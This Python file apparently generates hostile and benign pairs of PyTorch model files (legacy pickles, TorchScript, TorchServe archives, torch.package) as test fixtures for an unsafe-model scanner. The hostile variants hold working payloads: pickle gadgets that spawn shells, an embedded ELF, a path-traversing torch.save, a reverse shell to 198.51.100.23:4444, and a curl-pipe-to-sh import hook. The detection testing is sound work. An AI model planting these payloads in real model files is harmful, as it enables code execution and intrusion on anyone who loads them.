"""PyTorch files: nested storages, persistent ids, legacy layouts, TorchScript, packages and archives."""

from __future__ import annotations

import json
import struct
import zipfile

from assembly import Raw, call, dot, glob, pickle, text, val
from pair import CODE, SHELL
from seventh.kit import elf, floats, second, state, tarred, tensor, torch_zip, zipped

MAGIC, PROTOCOL = 0x1950A86A20F9469CFC6C, 1001
SYSTEM = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}


def long(n: int) -> Raw:
    data = n.to_bytes((n.bit_length() + 8) // 8, "little", signed=True)
    return Raw(b"\x8a" + bytes([len(data)]) + data)


def legacy(body, keys=("0",), system=None) -> bytes:
    """The layout of torch before 1.6: magic, version, machine, object, storage keys, raw storages."""
    head = b"\x80\x02" + long(MAGIC) + b"." + pickle(PROTOCOL, 2) + second(pickle(system if system is not None else SYSTEM))
    raw = b"".join(struct.pack("<Q", 4) + floats(4, 11) for _ in keys)
    return head + second(pickle(body)) + second(pickle(list(keys))) + raw


def persistent(key="0", count=4) -> Raw:
    return Raw(val(("storage", glob("torch", "FloatStorage"), key, "cpu", count, None)) + b"Q")


def add(out):
    def one(name, hostile, twin, file="model.pt", prove="torch", why=""):
        out.add("torch", name, hostile, twin, prove, file, why)

    # A tensor that multiprocessing or an old joblib wrote carries a whole torch file in bytes.
    def nested(body):
        return pickle({"epoch": 4, "ema": call(glob("torch.storage", "_load_from_bytes"), legacy(body))})

    one(
        "nested_file_in_load_from_bytes",
        nested(call(glob("timeit", "timeit"), "None", CODE, Raw(glob("time", "perf_counter")), 1)),
        nested(persistent()),
        "ema.pkl",
        "torch.pickle",
        "torch.storage._load_from_bytes loads its bytes as a torch file, without weights_only",
    )
    place = call(glob("webbrowser", "GenericBrowser"), ["sh", "-c", SHELL])
    opened = call(dot("webbrowser", "GenericBrowser.open"), place, "about:blank")
    one(
        "call_inside_a_persistent_id",
        torch_zip(pickle(state(("fc.scale", tensor("1", 4, location=opened))))),
        torch_zip(pickle(state(("fc.scale", tensor("1", 4, location="cuda:0"))))),
        why="the device of a storage is the result of a call",
    )
    bad = second(pickle(state(("note", call(glob("pydoc", "pipepager"), "x", SHELL)))))
    good = second(pickle(state(("note", "trained on 4 nodes"))))
    one(
        "deflated_and_root_renamed",
        torch_zip(bad, "résumé-7b", method=zipfile.ZIP_DEFLATED),
        torch_zip(good, "résumé-7b", method=zipfile.ZIP_DEFLATED),
        "weights.ckpt",
        why="members are compressed, and the root folder is not in ASCII",
    )
    one(
        "legacy_machine_record",
        legacy(persistent(), system=Raw(val(SYSTEM)[:-1] + text("cpu") + call(glob("pty", "spawn"), ["sh", "-c", SHELL]) + b"u")),
        legacy(persistent(), system=Raw(val(SYSTEM)[:-1] + text("cpu") + call(glob("collections", "OrderedDict")) + b"u")),
        why="the third of the five pickles, which no tensor is in",
    )

    # The tar of torch 0.1.1: sys_info, pickle, tensors and storages.
    def oldest(kind):
        storages = pickle(1, 2) + pickle(("0", "cpu", kind)) + struct.pack("<Q", 4) + floats(4, 5)
        tensors = pickle(0, 2)
        return tarred(
            [
                ("sys_info", second(pickle(SYSTEM))),
                ("pickle", second(pickle(call(glob("collections", "OrderedDict"))))),
                ("tensors", tensors),
                ("storages", storages),
            ]
        )

    one(
        "oldest_tar_storages",
        oldest(call(dot("bdb", "Bdb.run"), call(glob("bdb", "Bdb")), CODE)),
        oldest(glob("torch", "FloatStorage")),
        "alexnet.pth",
        "torch.tar",
        "the storages member is a stream of pickles",
    )

    # What weights_only would have refused, or corrupted memory with before it was mended.
    small = tensor("1", 4)
    one(
        "storage_longer_than_its_record",
        torch_zip(second(pickle(state(("fc.probe", tensor("1", 64, 64, count=4096)))))),
        torch_zip(second(pickle(state(("fc.probe", small))))),
        prove=None,
        why="the shape of CVE-2026-24747: 4,096 elements are claimed of a record of 4; mended in torch 2.10, so not run",
    )
    one(
        "program_in_an_unused_record",
        torch_zip(good, extra=[("archive/data/2", elf() + floats(64, 9))]),
        torch_zip(
            second(pickle(state(("note", "trained on 4 nodes"), ("fc.extra", tensor("2", 8, 8))))),
            extra=[("archive/data/2", floats(64, 9))],
        ),
        prove=None,
        why="a Linux program lies in a record that no tensor names",
    )

    # TorchScript: the operators themselves open files.
    def script(body):
        code = f"class Net(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n  def forward(self: __torch__.Net,\n    x: Tensor) -> Tensor:\n{body}"
        data = b"\x80\x02c__torch__\nNet\nq\0)\x81}(X\x08\0\0\0trainingq\x01\x89ubq\x02."
        members = [
            ("net/data.pkl", data),
            ("net/byteorder", b"little"),
            ("net/code/__torch__.py", code),
            ("net/constants.pkl", b"\x80\x02)."),
        ]
        return zipped([*members, ("net/version", b"3\n")])

    one(
        "torchscript_maps_a_file",
        script('    y = torch.from_file("marker", True, 16)\n    return torch.add(x, torch.sum(y))\n'),
        script("    y = torch.arange(16)\n    return torch.add(x, torch.sum(y))\n"),
        prove="torchscript",
        why="aten::from_file with shared=True creates and maps the file it names",
    )
    one(
        "torchscript_saves_a_file",
        script('    torch.save([x], "../../.cache/startup.pt")\n    return x\n'),
        script("    y = torch.relu(torch.mul(x, 2))\n    return y\n"),
        prove=None,
        why="aten::save writes where the script says; needs an interpreter with torch, not run here",
    )

    # Archives with programs: TorchServe and torch.package.
    def mar(body):
        manifest = {
            "createdOn": "01/01/2024 00:00:00",
            "runtime": "python",
            "model": {"modelName": "net", "serializedFile": "net.pt", "handler": "handler.py", "modelVersion": "1.0"},
            "archiverVersion": "0.9.0",
        }
        handler = f"from ts.torch_handler.base_handler import BaseHandler\n\n\nclass Handler(BaseHandler):\n    def initialize(self, context):\n        super().initialize(context)\n{body}"
        return zipped({"MAR-INF/MANIFEST.json": json.dumps(manifest), "net.pt": torch_zip(good), "handler.py": handler})

    one(
        "torchserve_handler_opens_a_shell",
        mar(
            "        import socket, os, pty\n        s = socket.create_connection(('198.51.100.23', 4444))\n        [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n        pty.spawn('/bin/sh')\n"
        ),
        mar(
            "        import json, os\n        root = context.system_properties.get('model_dir')\n        self.labels = json.load(open(os.path.join(root, 'index_to_name.json')))\n"
        ),
        "net.mar",
        "mar",
        "a reverse shell in the handler; run with a stand-in for TorchServe's base class",
    )

    def package(module):
        body = b"\x80\x02ctiny.model\nNet\n)\x81}X\x04\0\0\0biasG?\xe0\0\0\0\0\0\0sb."
        return zipped(
            [
                ("pkg/.data/extern_modules", "torch\n"),
                ("pkg/.data/version", "6\n"),
                ("pkg/model/model.pkl", body),
                ("pkg/tiny/__init__.py", ""),
                ("pkg/tiny/model.py", module),
                ("pkg/byteorder", "little"),
                ("pkg/version", "3\n"),
            ]
        )

    one(
        "torch_package_module_runs_on_import",
        package(
            "import importlib as _i\n\n_run = vars(_i.import_module('subprocess'))['check_output']\n_run(['sh', '-c', 'curl -s http://198.51.100.23/a | sh'])\n\n\nclass Net:\n    bias = 0.0\n"
        ),
        package(
            "import importlib as _i\n\n_math = vars(_i.import_module('math'))['sqrt']\n_SCALE = _math(64.0)\n\n\nclass Net:\n    bias = 0.0\n"
        ),
        prove="member:pkg/tiny/model.py",
        why="torch.package imports the modules of the archive",
    )
